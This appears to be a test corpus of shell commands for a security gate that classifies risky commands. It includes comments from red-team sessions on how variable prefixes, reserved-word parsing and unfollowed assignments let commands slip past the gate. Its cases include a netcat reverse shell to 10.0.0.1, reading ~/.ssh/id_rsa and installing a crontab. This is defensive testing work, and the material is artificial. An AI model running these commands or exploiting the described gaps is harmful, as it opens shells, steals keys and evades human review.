# Session 12, lead (issue 3): a variable set by a statement before a version or read-only
# query. Read by tests/test_corpora.py, NEVER executed.
#
# A query is SAFE only while nothing it reads from its environment changes: each tool reads
# variables of its own, and some run code (redteam14, bash: LUA_INIT before `lua -v` ran a
# Lua file, LSB_OS_RELEASE was sourced by `lsb_release`; both are listed now, GK-ENV-001).
# A prefix (`FOO=1 perl -v`) was already judged so by the dev-tools and queries plugins; a
# statement before the query sets the environment as surely (`export FOO=1; perl -v`, or
# `FOO=1; perl -v` when FOO is exported already), and so does `read FOO`. This is the same
# rule carried to statements, not a newly proven name: the proven names are listed.

# -- dev tools' version queries (GK-DEV-002) --------------------------------------------------
# ruleid: GK-DEV-002
export FOO=1; perl -v
# ruleid: GK-DEV-002
declare -x FOO=1; perl -v
# ruleid: GK-DEV-002
FOO=1; export FOO; perl -v
# ruleid: GK-DEV-002
read FOO; perl -v
# (inside `bash -c` the wrapper reports the dominant finding: the bash plugin's, as perl is an
# interpreter too)
# ruleid: GK-BASH-006
bash -c 'export FOO=1; perl -v'
# ok: GK-DEV-002
export LANG=C; perl -v
# ok: GK-DEV-002
echo a=b; perl -v
# ok: GK-DEV-002
perl -v && pip install requests==2.32.3
# ok: GK-DEV-002
python3 --version; pip list --format=json

# -- interpreters' version queries, judged by the bash plugin (GK-BASH-006): a prefix was not
# looked at either (`FOO=1 lua -v` was allowed) ------------------------------------------------
# ruleid: GK-BASH-006
FOO=1 lua -v
# ruleid: GK-BASH-006
export FOO=1 && lua -v
# ruleid: GK-BASH-006
X=1; node --version
# ok: GK-BASH-006
LANG=C node -v
# ok: GK-BASH-006
export CI=1; python3 --version
# ok: GK-BASH-006
node -v && npm -v

# -- the queries plugin's tools (GK-QUERY-002) ------------------------------------------------
# ruleid: GK-QUERY-002
export FOO=1; npm ls
# ruleid: GK-QUERY-002
X=1; cargo tree
# ok: GK-QUERY-002
npm ls --json=true
# ok: GK-QUERY-002
export NO_COLOR=1; npm ls

# -- a reserved word as a command's name. After an assignment `for` is an ordinary command
# name, so tree-sitter-bash read `CI=1 for item in 4444; do nc …; done` as the commands
# `for …`, `do nc …` and `done`: the nc was judged as a command named `do` (GK-UNKNOWN),
# less than the same nc alone (GK-NET-001; found by tests/test_metamorphic.py in CI). bash
# refuses that line (syntax error near `do`); the gate now judges the words after `do` as the
# command they would be in a loop, and says the text is out of place (GK-SHELL-001) -------------
# ruleid: GK-NET-001
CI=1 for item in 4444; do /usr/bin/nc.traditional -c 'sh -i' 10.0.0.1 "$item"; done
# ruleid: GK-SHELL-001
X=1 if true; then ls; fi
# ok: GK-SHELL-001
for item in a b; do echo "$item"; done
# ok: GK-SHELL-001
if true; then ls; fi
# ok: GK-SHELL-001
echo do done fi

# -- an assignment that may not run (`cd . && f=…`): a later `$f` is its value or the one
# before. The walker followed only an assignment first in its `&&` list and left `$f`
# unknown here (GK-BASH-002, which a reviewer may approve) while `f=~/.ssh/id_rsa; cat "$f"`
# alone is GK-PROT-002 (found by tests/test_metamorphic.py: the `cd X &&` variant). Both
# values are judged now -------------------------------------------------------------------------
# ruleid: GK-PROT-002
cd . && f=~/.ssh/id_rsa; cat "$f"
# ruleid: GK-PROT-002
cd . && CI=1 f=~/.ssh/id_rsa; cat "$f"
# ok: GK-PROT-002
f=README.md; cat "$f"

# -- crontab: `crontab FILE`, `crontab -`, `crontab -e` install a job cron runs later, unasked
# (redteam19 left it reviewer-level: cron is not installed here, so not run; crontab(1) says
# the file replaces the user's table). Now the human's, as a write of ~/.bashrc is ----------------
# ruleid: GK-PROT-001
crontab -e
# ok: GK-PROT-001
crontab -l
